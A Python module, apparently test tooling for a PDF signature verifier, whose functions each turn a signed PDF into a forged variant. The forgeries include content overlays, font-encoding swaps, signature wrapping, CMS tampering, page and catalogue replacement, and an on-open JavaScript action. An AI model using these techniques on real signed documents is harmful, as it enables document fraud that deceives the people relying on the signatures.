"""What has been done to signed PDFs: each function takes a signed file and gives a forged one."""

import re
from io import BytesIO
from pathlib import Path
from tempfile import TemporaryDirectory

import pymupdf
from asn1crypto import cms, parser
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.content import RawContent
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.layout import BoxConstraints
from pyhanko.pdf_utils.reader import PdfFileReader

TEXT_BOX = (60, 725, 380, 778)
"""Points: the text of make_pdf's pages."""
BYTE_RANGE = re.compile(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]")
_COVER = b"1 1 1 rg 0.1 0.86 0.54 0.063 re f 0 g 0.12 0.88 0.3 0.005 re f"
"""In the unit square that the pages of make_pdf leave as their coordinates."""


def overlay(signed: bytes) -> bytes:
    """A white box and new ink on the page itself."""
    writer = _update(signed)
    writer.add_stream_to_page(0, writer.add_object(generic.StreamObject(stream_data=_COVER)))
    return _written(writer)


def annotation(signed: bytes) -> bytes:
    """A note with an opaque background over the text."""
    with TemporaryDirectory() as folder:
        path = Path(folder) / "note.pdf"
        path.write_bytes(signed)
        with pymupdf.open(path) as document:
            document[0].add_freetext_annot(
                pymupdf.Rect(60, 64, 380, 117), "9.250.000", fontsize=18, fill_color=(1, 1, 1)
            )
            document.saveIncr()
        return path.read_bytes()


def remove_field(signed: bytes) -> bytes:
    """The form and the widget forget the signature: the file looks unsigned."""
    writer = _update(signed)
    form = writer.root["/AcroForm"]
    form[pdf_name("/Fields")] = generic.ArrayObject()
    writer.update_container(form)
    page = writer.root["/Pages"]["/Kids"][0].get_object()
    page[pdf_name("/Annots")] = generic.ArrayObject()
    writer.update_container(page)
    return _written(writer)


def remove_value(signed: bytes) -> bytes:
    """The field stays, empty."""
    writer = _update(signed)
    field = writer.root["/AcroForm"]["/Fields"][0].get_object()
    del field[pdf_name("/V")]
    writer.update_container(field)
    return _written(writer)


def bytes_in_padding(signed: bytes) -> bytes:
    """Text in the zeros behind the signature."""
    before, resume = _gap(signed)
    contents = bytes.fromhex(signed[before + 1 : resume - 1].decode())
    used = before + 1 + 2 * parser.peek(contents)
    return _overwritten(signed, used + 40, b"hidden".hex().encode())


def other_case_in_contents(signed: bytes) -> bytes:
    """One hex digit of the signature in the other case: the same value, another file."""
    before, resume = _gap(signed)
    gap = signed[before:resume]
    lower = re.search(rb"[a-f]", gap)
    digit = lower or re.search(rb"[A-F]", gap)
    assert digit
    return _overwritten(signed, before + digit.start(), digit.group().swapcase())


def stretched_container(signed: bytes) -> bytes:
    """The outermost CMS element swallows some of the zeros behind it."""
    contents = _contents(signed)
    length = int.from_bytes(contents[2:4], "big")
    return _with_contents(signed, contents, 2, (length + 16).to_bytes(2, "big"))


def extra_element(signed: bytes) -> bytes:
    """A NULL behind the fields of the outermost CMS element."""
    contents = _contents(signed)
    end = parser.peek(contents)
    longer = _overwritten(contents, 2, (end - 4 + 2).to_bytes(2, "big"))
    return _with_contents(signed, longer, end, b"\x05\x00")


def broken_authority(signed: bytes) -> bytes:
    """A bit in the embedded certificate of the authority, which the trust store knows anyway."""
    contents = _contents(signed)
    signed_data = cms.ContentInfo.load(contents)["content"]
    authority = next(each.chosen for each in signed_data["certificates"] if each.chosen.ca).dump()
    last = contents.index(authority) + len(authority) - 1
    return _with_contents(signed, contents, last, bytes([contents[last] ^ 1]))


def other_case_in_issuer(signed: bytes) -> bytes:
    """A letter of the issuer that the signature names; names compare without regard to case."""
    contents = _contents(signed)
    signer = cms.ContentInfo.load(contents)["content"]["signer_infos"][0]
    place = contents.index(b"UBND", contents.index(signer["sid"].dump()))
    return _with_contents(signed, contents, place, b"u")


def lost_time_stamp(stamped: bytes) -> bytes:
    """The time stamp under a tag that nobody looks for."""
    contents = _contents(stamped)
    attributes = contents.index(bytes.fromhex("060b2a864886f70d010910020e"))
    tag = contents.rindex(b"\xa1", 0, attributes)
    return _with_contents(stamped, contents, tag, b"\xe1")


def misspelt_form(signed: bytes) -> bytes:
    """No reader finds the form any more: the file looks as if it had never been signed."""
    return signed.replace(b"/AcroForm", b"/AcroFrom")


def unknown_format(signed: bytes) -> bytes:
    return signed.replace(b"/ETSI.CAdES.detached", b"/ETSI.CAdES.attached")


def new_metadata(signed: bytes) -> bytes:
    """Another title, in a revision of its own."""
    writer = _update(signed)
    title = generic.DictionaryObject({pdf_name("/Title"): generic.pdf_string("Khác")})
    writer.set_info(writer.add_object(title))
    return _written(writer)


def garbage_after_end(signed: bytes) -> bytes:
    return signed + b"\nGhi them sau khi ky\n"


def garbage_with_end_marker(signed: bytes) -> bytes:
    start = re.findall(rb"startxref\s+(\d+)", signed)[-1]
    return signed + b"% Ghi them sau khi ky\nstartxref\n" + start + b"\n%%EOF\n"


def empty_revision(signed: bytes) -> bytes:
    """A revision with an object that nothing refers to."""
    writer = _update(signed)
    writer.add_object(generic.TextStringObject("Ghi them sau khi ky"))
    return _written(writer)


def add_page(signed: bytes) -> bytes:
    writer = _update(signed)
    page = writer.root["/Pages"]["/Kids"][0].get_object()
    copy = generic.DictionaryObject(
        {k: page.raw_get(k) for k in page if k not in ("/Annots", "/Parent")}
    )
    writer.insert_page(copy)
    return _written(writer)


def remove_page(signed: bytes) -> bytes:
    writer = _update(signed)
    pages = writer.root["/Pages"]
    del pages["/Kids"][1]
    pages[pdf_name("/Count")] = generic.NumberObject(1)
    writer.update_container(pages)
    writer.update_container(pages["/Kids"])
    return _written(writer)


def swap_appearance(signed: bytes) -> bytes:
    """Another picture in the stamp of the signature."""
    writer = _update(signed)
    widget = writer.root["/AcroForm"]["/Fields"][0].get_object()
    drawing = RawContent(b"1 0 0 rg 0 0 190 40 re f", box=BoxConstraints(width=190, height=40))
    drawing.set_writer(writer)
    form = writer.add_object(drawing.as_form_xobject())
    widget[pdf_name("/AP")] = generic.DictionaryObject({pdf_name("/N"): form})
    writer.update_container(widget)
    return _written(writer)


def move_widget(signed: bytes) -> bytes:
    writer = _update(signed)
    widget = writer.root["/AcroForm"]["/Fields"][0].get_object()
    widget[pdf_name("/Rect")] = generic.ArrayObject(map(generic.NumberObject, TEXT_BOX))
    writer.update_container(widget)
    return _written(writer)


def swap_font(signed: bytes) -> bytes:
    """The same codes, other letters: what a font's encoding says is what is read."""
    writer = _update(signed)
    fonts = writer.root["/Pages"]["/Kids"][0].get_object()["/Resources"]["/Font"]
    font = next(iter(fonts.values())).get_object()
    names = [generic.NumberObject(48), *(pdf_name(f"/{n}") for n in ("nine", "eight", "seven"))]
    font[pdf_name("/Encoding")] = generic.DictionaryObject(
        {
            pdf_name("/Type"): pdf_name("/Encoding"),
            pdf_name("/Differences"): generic.ArrayObject(names),
        }
    )
    writer.update_container(font)
    return _written(writer)


def wrap_signature(signed: bytes) -> bytes:
    """Signature wrapping: the second signed part moves, and a new ByteRange finds it there.

    The gap between the parts holds a new cross-reference table where the moved ``startxref``
    points, with a second signature object and a page whose content is the attacker's.
    """
    before, resume = _gap(signed)
    start = int(re.findall(rb"startxref\s+(\d+)", signed)[-1])
    reader = PdfFileReader(BytesIO(signed))
    entries = reader.xrefs.get_xref_data(reader.xrefs.total_revisions - 1).standard_xrefs
    number = int(re.findall(rb"(\d+) 0 obj", signed[:before])[-1])
    shift, place = 20_000, start + 4_000
    offsets = {n: at if at < before else at + shift for n, (_, at) in entries.items()}
    offsets[number] = place
    table = b"xref\n" + b"".join(
        b"%d 1\n%010d 00000 n \n" % (n, at) for n, at in sorted(offsets.items())
    )
    trailer = signed[signed.index(b"trailer", start) : signed.index(b"startxref", start)]
    moved = b"/ByteRange [0 %d %d %d]" % (before, resume + shift, len(signed) - resume)
    begin = signed.rindex(b"%d 0 obj" % number, 0, before)
    end = signed.index(b"endobj", resume) + len(b"endobj")
    gap = signed[before:resume].ljust(start - before, b" ")
    gap += (table + trailer).ljust(place - start, b" ")
    gap += BYTE_RANGE.sub(moved, signed[begin:end])
    return signed[:before] + gap.ljust(resume + shift - before, b" ") + signed[resume:]


def zero_contents(signed: bytes, which: int = 0) -> bytes:
    before, resume = _gap(signed, which)
    return _overwritten(signed, before + 1, b"0" * (resume - before - 2))


def flip_bit(signed: bytes) -> bytes:
    """One bit in the middle of the scanned picture."""
    place = signed.index(b"stream") + 9_000
    return _overwritten(signed, place, bytes([signed[place] ^ 1]))


def shorten_byte_range(signed: bytes) -> bytes:
    found = BYTE_RANGE.search(signed)
    assert found
    last = found.group(4)
    shorter = str(int(last) - 20).encode().rjust(len(last), b"0")
    return _overwritten(signed, found.start(4), shorter)


def zero_byte_range(signed: bytes) -> bytes:
    found = BYTE_RANGE.search(signed)
    assert found
    zeros = b"/ByteRange [0 0 0 0]".ljust(len(found.group()), b" ")
    return _overwritten(signed, found.start(), zeros)


def no_byte_range(signed: bytes) -> bytes:
    """Universal forgery: a verifier that skips what it does not find would be content."""
    return signed.replace(b"/ByteRange", b"/ByteRangX")


def no_contents(signed: bytes) -> bytes:
    """The signature's value is null in a later revision."""
    writer = _update(signed)
    value = writer.root["/AcroForm"]["/Fields"][0].get_object()["/V"]
    value[pdf_name("/Contents")] = generic.NullObject()
    writer.update_container(value)
    return _written(writer)


def wider_gap(signed: bytes) -> bytes:
    """The part that is not signed reaches beyond /Contents."""
    found = BYTE_RANGE.search(signed)
    assert found
    before, resume, rest = (int(found.group(number)) for number in (2, 3, 4))
    wider = b"/ByteRange [0 %d %d %d]" % (before, resume + 8, rest - 8)
    return _overwritten(signed, found.start(), wider.ljust(len(found.group()), b" "))


def undeclared_signature(signed: bytes) -> bytes:
    """A signature that no field of the form points to, in a revision of its own."""
    writer = _update(signed)
    value = writer.root["/AcroForm"]["/Fields"][0].get_object()["/V"]
    stranger = generic.DictionaryObject({key: value.raw_get(key) for key in value})
    numbers = (0, 20, 40, len(signed) - 40)
    stranger[pdf_name("/ByteRange")] = generic.ArrayObject(map(generic.NumberObject, numbers))
    writer.add_object(stranger)
    return _written(writer)


def hidden_widget(signed: bytes) -> bytes:
    """The stamp is not to be seen any more."""
    writer = _update(signed)
    widget = writer.root["/AcroForm"]["/Fields"][0].get_object()
    widget[pdf_name("/F")] = generic.NumberObject(2)
    writer.update_container(widget)
    return _written(writer)


def another_catalogue(signed: bytes) -> bytes:
    """Hide and replace: the trailer points to other pages with the same form."""
    writer = _update(signed)
    pages = writer.root["/Pages"]
    other = generic.DictionaryObject({key: pages.raw_get(key) for key in pages})
    other[pdf_name("/Kids")] = generic.ArrayObject(reversed(list(pages["/Kids"])))
    writer.root[pdf_name("/Pages")] = writer.add_object(other)
    writer.update_root()
    return _written(writer)


def rewrite(signed: bytes) -> bytes:
    """Saved anew by another program."""
    with pymupdf.open(stream=signed, filetype="pdf") as document:
        return bytes(document.tobytes(garbage=0))


def page_tree_loop(signed: bytes) -> bytes:
    """The pages of make_pdf are their own children."""
    before, after = b"/Kids [ 3 0 R", b"/Kids [ 2 0 R"
    return _overwritten(signed, signed.index(before), after)


def script_on_opening(signed: bytes) -> bytes:
    writer = _update(signed)
    writer.root[pdf_name("/OpenAction")] = generic.DictionaryObject(
        {
            pdf_name("/S"): pdf_name("/JavaScript"),
            pdf_name("/JS"): generic.pdf_string("app.alert(1)"),
        }
    )
    writer.update_root()
    return _written(writer)


def text_page(path: Path) -> Path:
    """A page of text, whose font can be swapped."""
    with pymupdf.open() as document:
        document.new_page().insert_text((72, 120), "So tien: 1.250.000 dong", fontsize=24)
        document.save(path)
    return path


def _gap(signed: bytes, which: int = 0) -> tuple[int, int]:
    """Where a signature's /Contents begins and where the signed bytes go on."""
    found = list(BYTE_RANGE.finditer(signed))[which]
    return int(found.group(2)), int(found.group(3))


def _contents(signed: bytes) -> bytes:
    before, resume = _gap(signed)
    return bytes.fromhex(signed[before + 1 : resume - 1].decode())


def _with_contents(signed: bytes, contents: bytes, place: int, content: bytes) -> bytes:
    changed = _overwritten(contents, place, content)
    return _overwritten(signed, _gap(signed)[0] + 1, changed.hex().encode())


def _overwritten(signed: bytes, place: int, content: bytes) -> bytes:
    return signed[:place] + content + signed[place + len(content) :]


def _update(signed: bytes) -> IncrementalPdfFileWriter:
    return IncrementalPdfFileWriter(BytesIO(signed))


def _written(writer: IncrementalPdfFileWriter) -> bytes:
    out = BytesIO()
    writer.write(out)
    return out.getvalue()
